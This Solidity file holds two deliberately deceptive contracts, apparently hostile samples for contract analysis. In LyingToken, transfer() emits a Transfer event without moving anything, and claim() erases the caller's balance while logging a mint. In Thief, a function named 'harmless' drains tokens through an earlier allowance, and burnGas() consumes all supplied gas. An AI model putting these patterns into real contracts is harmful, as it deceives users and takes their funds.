// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IERC20 {
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
}

/// Claims to move, moves nothing; and moves in silence when asked to.
contract LyingToken {
    event Transfer(address indexed from, address indexed to, uint256 value);

    mapping(address => uint256) public balanceOf;

    constructor(address holder) {
        balanceOf[holder] = 1000;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        emit Transfer(msg.sender, to, amount);
        return true;
    }

    function allowance(address, address) external pure returns (uint256) {
        return 0;
    }

    /// Takes without saying so.
    function claim() external {
        balanceOf[msg.sender] = 0;
        emit Transfer(address(0), msg.sender, 5);
    }
}

/// Uses an allowance that the victim gave long ago.
contract Thief {
    function harmless(IERC20 token, uint256 amount) external {
        token.transferFrom(msg.sender, address(this), amount);
    }

    /// Uses every unit of gas it gets.
    function burnGas() external pure {
        assembly {
            invalid()
        }
    }
}
